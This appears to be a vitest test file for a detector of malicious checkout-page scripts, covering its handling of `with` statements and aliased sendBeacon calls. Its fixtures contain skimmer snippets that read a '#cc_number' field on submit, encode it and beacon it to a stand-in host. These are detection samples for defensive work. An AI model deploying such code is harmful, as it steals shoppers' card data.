import type { Node } from 'acorn'
import { describe, expect, it } from 'vitest'
import { parseStrict } from '../../detector/parse.ts'
import { resolveStatically } from '../../detector/deobfuscate/partial.ts'
import { analyzeScript } from '../../detector/index.ts'

// Inside `with (o) { … }` a bare name that is a member of `o` means that member. When `o` is an
// object literal of the script's, its members are spelled out; functions held under other
// names (a bound native, a member of a literal) are read as what they call.

const rewrite = (source: string): string | undefined =>
  resolveStatically(parseStrict(source) as Node, source)?.source

describe('with statements over an object literal', () => {
  it('spells the names the literal has as its members, and leaves the others', () => {
    const out = rewrite(
      `function f(x){var o={go:x.send.bind(x),to:'/a'};with(o){go(to,other(to))}}`,
    )
    expect(out).toContain('with(o){o.go(o.to,other(o.to))}')
  })

  it('leaves the body alone when it declares one of those names itself', () => {
    const out = rewrite(`function f(x){var o={go:x.send,to:'/a'};with(o){var to=1;go(to)}}`)
    expect(out ?? '').not.toContain('o.go')
  })

  it('leaves member names and object keys as they are', () => {
    const out = rewrite(`function f(x){var o={go:x.g,to:'/a'};with(o){x.go({to:1});go()}}`)
    expect(out).toContain('with(o){x.go({to:1});o.go()}')
  })
})

describe('functions held under other names', () => {
  const ctx = {
    url: 'https://www.shop.example/a.js',
    pageUrl: 'https://www.shop.example/checkout/',
  }
  const card = `btoa(document.querySelector('#cc_number').value)`
  it.each([
    ['a bound native', `var go = navigator.sendBeacon.bind(navigator); go(U, ${card})`],
    [
      'a member of a literal',
      `var io = { go: navigator.sendBeacon.bind(navigator) }; io.go(U, ${card})`,
    ],
    [
      'a member called indirectly',
      `var io = { go: navigator.sendBeacon }; io.go.call(navigator, U, ${card})`,
    ],
  ])('%s is the native it holds', (_what, body) => {
    const source = `var U = 'https://x.example/c'; document.addEventListener('submit', function () { ${body} })`
    const v = analyzeScript(source, ctx)
    expect(v.findings.map((f) => f.message).join('\n')).toContain('via beacon')
  })

  it('a literal whose member is written elsewhere holds nothing known', () => {
    const source = `var io = { go: navigator.sendBeacon.bind(navigator) }; io.go = function () {};
      document.addEventListener('submit', function () { io.go('https://x.example/c', btoa(document.querySelector('#cc_number').value)) })`
    const v = analyzeScript(source, ctx)
    expect(v.findings.map((f) => f.message).join('\n')).not.toContain('via beacon')
  })
})

describe('with statements the rewrite leaves alone', () => {
  it.each([
    [
      'the body declares the object name',
      `function f(x){var o={go:x.g};with(o){[1].forEach(function(o){go(o)})}}`,
    ],
    ['a key is the object name', `function f(x){var o={o:1,go:x.g};with(o){go(o)}}`],
    ['the object name is given another value', `function f(x){var o={go:x.g};o=x;with(o){go(1)}}`],
  ])('%s', (_why, source) => {
    expect(rewrite(source) ?? '').not.toContain('o.go')
  })

  it('the last property of a name is the one the object holds', () => {
    const ctx = {
      url: 'https://www.shop.example/a.js',
      pageUrl: 'https://www.shop.example/checkout/',
    }
    const send = (literal: string): string =>
      analyzeScript(
        `var io = ${literal}; document.addEventListener('submit', function () { io.go('https://x.example/c', btoa(document.querySelector('#cc_number').value)) })`,
        ctx,
      )
        .findings.map((f) => f.message)
        .join('\n')
    expect(send(`{ go: console.log, go: navigator.sendBeacon.bind(navigator) }`)).toContain(
      'via beacon',
    )
    expect(send(`{ go: navigator.sendBeacon.bind(navigator), ...more }`)).not.toContain(
      'via beacon',
    )
  })
})
